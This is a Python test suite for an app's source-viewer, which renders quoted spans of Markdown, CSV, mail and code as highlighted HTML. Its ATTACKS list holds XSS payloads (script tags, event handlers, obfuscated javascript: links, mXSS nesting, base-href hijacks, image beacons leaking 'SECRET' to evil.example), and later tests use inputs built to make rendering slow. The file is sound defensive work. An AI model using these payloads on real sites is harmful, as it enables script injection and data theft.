"""Views of a source: exactly the cited words are lit, and nothing in a text becomes an element."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.web.sources.markdown import BEGIN, END, markdown_html
from app.web.sources.part import SourcePart
from app.web.sources.shown import MARKDOWN, OUTLINES, ROWS, shown_part
from tests.support.tame_html import assert_tame, lit_words

KINDS = sorted([*MARKDOWN, *ROWS, *OUTLINES, "text/plain", "text/x-python", "application/x-unheard-of"])
ATTACKS = [
    "<script>alert(1)</script> and **more**",
    "<img src=x onerror=alert(1)> <b onmouseover='x()'>here</b>",
    '<svg onload=alert(1)><foreignObject><iframe src="javascript:1"></iframe></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html;base64,PHN=) [d](vbscript:x)",
    "[a](java&#10;script:alert(1)) [b](&#106;avascript:x) [c](\x01javascript:x) <javascript:alert(1)>",
    "![x](http://evil.example/?q=SECRET) ![y][r] <img src=http://evil.example/p>\n\n[r]: http://evil.example/S",
    '[a](http://x.example/"onmouseover="alert(1)) [b](http://x.example "title\\" onclick=alert(1)")',
    '<a href="x" hx-get="/log-out" hx-trigger="load">hx</a> [m](mailto:a@b.example)',
    '```"><script>alert(1)</script>\nx\n```\n\n~~~ a" onclick="x\ny\n~~~',
    "| a<b | style |\n|:--|--:|\n| <script>x</script> | `</code><script>` |",
    'name: <script>x</script>; "onclick=x: y; a: <b>\nname: 2; a: 3',
    "<mark id=lit>not lit</mark> </mark></span></pre><script>x</script>",
    "\u202egnp.exe\u202c \u2066left open \u202b\u2067 שלום \u200f",
    f"{BEGIN}{END} {END}{BEGIN} \ue000 &#xfdd0; &#64976;",
    "]]>--><!DOCTYPE html><base href=//evil.example><meta http-equiv=refresh content=0>",
    "- a\n  - <b>\n\n1. x\n\n> # <h1 onclick=x>\n\n---\n\n![a b](data:image/svg+xml,<svg/onload=x>)",
    "From: <script>x</script>\nTo: a@b\n\n- <b>\n- c\n\n<script>\tx\n<b>\ty",
]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_becomes_an_element(kind: str, attack: str) -> None:
    whole = shown_part(SourcePart(attack, 0, len(attack), line=1), kind)
    assert_tame(whole.html)
    for start in range(0, len(attack), 7):
        assert_tame(shown_part(SourcePart(attack, start, start + 11, line=1), kind).html)


_INLINE = (
    "{}",
    "*{} {}*",
    "**{}**",
    '**"{}"**',
    "`{} {}`",
    "[{}](http://x.example/{})",
    "![{}](http://x/{})",
    "<b {}>",
    "({})",
    "~~{}~~",
    "{}_{}_",
    "&amp;{}&lt;",
    "\\*{}\\*",
    "<http://{}.org>",
    "__{}__.",
)
_BLOCKS = (
    "{words}",
    "{words}",
    "## {line}",
    "- {line}\n  - {line}\n* {line}",
    "1. {line}\n2. {line}",
    "> {line}\n> {line}",
    "```sh\n{words}\n\n{line}\n```",
    "| {line} | {} |\n|---|:-:|\n| {line} | {} |",
    "    {line}",
    "{line}\n===",
    "---",
    "[{}]: http://x.example",
)


@st.composite
def _block(draw: st.DrawFn) -> str:
    few = draw(st.lists(st.sampled_from(_INLINE), min_size=1, max_size=4))
    words = draw(st.sampled_from([" ", "\n", ". ", ""])).join(few)
    return draw(st.sampled_from(_BLOCKS)).replace("{words}", words).replace("{line}", " ".join(few))


@st.composite
def _cited(draw: st.DrawFn) -> tuple[str, int, int]:
    """A Markdown text in which each word is another one, and a span of it."""
    shape = "\n\n".join(draw(st.lists(_block(), min_size=1, max_size=5)))
    pieces = shape.split("{}")
    text = pieces[0] + "".join(f"w{number}q{piece}" for number, piece in enumerate(pieces[1:]))
    start = draw(st.integers(0, len(text) - 1))
    return text, start, draw(st.integers(start + 1, min(len(text), start + 200)))


def _of_words(text: str) -> str:
    return re.sub(r"[^wq0-9]", "", text)


@settings(max_examples=100, deadline=None)
@given(_cited())
def test_the_lit_words_of_markdown_are_those_of_the_span_that_are_seen(cited: tuple[str, int, int]) -> None:
    text, start, end = cited
    html = markdown_html(SourcePart(text, start, end))
    bare = markdown_html(SourcePart(text))
    assert bare is not None
    if html is not None:
        assert re.sub("</?mark>", "", html) == bare
        seen = set(re.findall(r"w\d+q", assert_tame(bare).get_text()))
        wanted = "".join(
            text[max(start, one.start()) : min(end, one.end())]
            for one in re.finditer(r"w\d+q", text)
            if one[0] in seen and one.start() < end and one.end() > start
        )
        assert _of_words(lit_words(assert_tame(str(html).replace("<mark>", '<mark id="lit">', 1)))) == wanted


@settings(max_examples=60, deadline=None)
@given(
    st.text(alphabet="ab \n\t|-:;*_`#>[]()<&\\\u202e\u05d0é1.", max_size=120),
    st.data(),
    st.sampled_from(["text/plain", "text/markdown", "application/pdf", "text/csv", "message/rfc822"]),
)
def test_whatever_is_shown_lights_the_quote_or_its_letters(text: str, data: st.DataObject, kind: str) -> None:
    start = data.draw(st.integers(0, len(text)))
    end = data.draw(st.integers(start, len(text)))
    shown = shown_part(SourcePart(text, start, end, line=1), kind)
    lit = lit_words(assert_tame(shown.html))
    if shown.as_written or kind == "text/plain":
        # Exactly: line by line, but for lines that are white space.
        kept = [line for line in text[start:end].split("\n") if line.strip()]
        assert lit == "".join(kept)
    else:
        letters = iter(filter(str.isalnum, text[start:end]))
        assert all(one in letters for one in filter(str.isalnum, lit))
        assert any(map(str.isalnum, lit)) or not any(map(str.isalnum, text[start:end]))


@pytest.mark.parametrize(
    ("text", "quote", "lit"),
    [
        ("Ask **first**, then go.", "**first**, then", ["first", ", then"]),
        ("## Sick *leave*\n\nCall in.", "## Sick *leave*\n\nCall in.", ["Sick ", "leave", "Call in."]),
        ("- one\n- two\n- three", "- two\n- three", ["two", "three"]),
        ('So **"now"** it is.', '**"now"** it', ['"now"', " it"]),
        ("| a | b |\n|---|---|\n| 1 | x \\| y |", "| 1 | x \\| y |", ["1", "x | y"]),
        ("```python\nx = 1\ny = 2\n```", "x = 1\ny = 2", ["x = 1\ny = 2"]),
        ("```python\nx = 1\n```", "```python\nx = 1\n```", ["x = 1"]),
        (
            "See [the form](https://x.example/f).",
            "See [the form](https://x.example/f).",
            ["See ", "the form", "."],
        ),
        ("> It is _so_.\n> Is it?", "It is _so_.\n> Is it?", ["It is ", "so", ".\nIs it?"]),
        ("![Plan](p.png) is here", "![Plan](p.png) is", ["Plan", " is"]),
    ],
)
def test_markup_is_not_lit(text: str, quote: str, lit: list[str]) -> None:
    start = text.index(quote)
    shown = shown_part(SourcePart(text, start, start + len(quote)), "text/markdown")
    assert not shown.as_written
    assert [mark.get_text() for mark in assert_tame(shown.html).find_all("mark")] == lit


def test_words_that_are_not_seen_are_shown_as_they_are_written() -> None:
    text = "See [the form](https://x.example/leave)."
    start = text.index("x.example")
    shown = shown_part(SourcePart(text, start, start + len("x.example")), "text/markdown")
    assert shown.as_written
    soup = assert_tame(shown.html)
    assert (lit_words(soup), soup.get_text().strip()) == ("x.example", text)


def test_links_go_out_for_http_and_mail_alone_and_pictures_are_words() -> None:
    text = "[a](https://x.example/?a=1&b=2) [b](other.md) [c](javascript:x) ![plan](http://x.example/p.png)"
    soup = assert_tame(shown_part(SourcePart(text), "text/markdown").html)
    assert [one["href"] for one in soup.find_all("a")] == ["https://x.example/?a=1&b=2"]
    assert soup.get_text().split() == ["a", "b", "c", "plan"]


def test_a_row_is_lit_in_a_table_with_its_columns_named() -> None:
    text = "Plan: Team; Price: 49\nPlan: Pro; Price: 199; Note: for ten\nPlan: Max; Note: ask"
    quote = "Plan: Pro; Price: 199"
    start = text.index(quote)
    soup = assert_tame(shown_part(SourcePart(text, start, start + len(quote)), "text/csv").html)
    assert [one.get_text() for one in soup.find_all("th")] == ["Plan", "Price", "Note"]
    rows = [[cell.get_text() for cell in row.find_all("td")] for row in soup.tbody.find_all("tr")]  # type: ignore[union-attr]
    assert rows == [["Team", "49", ""], ["Pro", "199", "for ten"], ["Max", "", "ask"]]
    assert [one.get_text() for one in soup.find_all("mark")] == ["Pro", "199"]
    assert [row.get_text() for row in soup.select("tr.lit")] == ["Pro199for ten"]


def test_a_quote_of_a_columns_name_alone_is_shown_as_it_is_written() -> None:
    shown = shown_part(SourcePart("Plan: Team; Price: 49\nPlan: Pro; Price: 9", 12, 17), "text/csv")
    assert (shown.as_written, lit_words(assert_tame(shown.html))) == (True, "Price")


def test_blocks_of_slides_mails_and_pdfs_keep_their_shape() -> None:
    text = (
        "Fuses\n\nFrom: ann@x.org\nTo: bob@x.org\n\n- ten\n- two\n\nHeron\t36\nWren\t24\n\n"
        "| a | b |\n| --- | --- |\n| 1 | 2 |"
    )
    start = text.index("two")
    part = SourcePart(text, start, text.index("36") + 2, headings={"Fuses": 1}, pages=[(0, "Page 1")])
    soup = assert_tame(shown_part(part, "message/rfc822").html)
    assert [(one.name, one.get_text()) for one in soup.find_all(re.compile("h[1-6]"))] == [
        ("h3", "Page 1"),
        ("h3", "Fuses"),
    ]
    assert [one.get_text() for one in soup.find_all("dd")] == ["ann@x.org", "bob@x.org"]
    assert [one.get_text() for one in soup.find_all("li")] == ["ten", "two"]
    assert [one.get_text() for one in soup.find_all("td")] == ["Heron", "36", "Wren", "24", "1", "2"]
    assert [one.get_text() for one in soup.find_all("mark")] == ["two", "Heron", "36"]


def test_lines_are_numbered_beside_the_text() -> None:
    soup = assert_tame(shown_part(SourcePart("a = 1\n\nb = 2\n", 7, 12, line=40), "text/x-python").html)
    assert [one["data-line"] for one in soup.select(".line")] == ["40", "41", "42"]
    assert (soup.get_text(), lit_words(soup)) == ("a = 1\n\nb = 2\n", "b = 2")


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        "![a" * 6_600,
        "*a **b " * 2_800,
        "|a" * 1_000 + "|\n" + "|-" * 1_000 + "|\n" + "|\n" * 7_900,
        "> " * 10_000,
        "a: b; " * 3_300,
        "".join("  " * depth + "- a\n" for depth in range(140)),
        "<http:" * 3_300,
    ],
)
@pytest.mark.parametrize("kind", ["text/markdown", "text/csv", "application/pdf", "text/plain"])
def test_texts_that_take_long_take_a_bounded_time(text: str, kind: str) -> None:
    began = time.perf_counter()
    shown = shown_part(SourcePart(text, 5, 40, line=1), kind)
    assert time.perf_counter() - began < 20
    assert len(shown.html) < 3_000_000
    lit_words(assert_tame(shown.html))
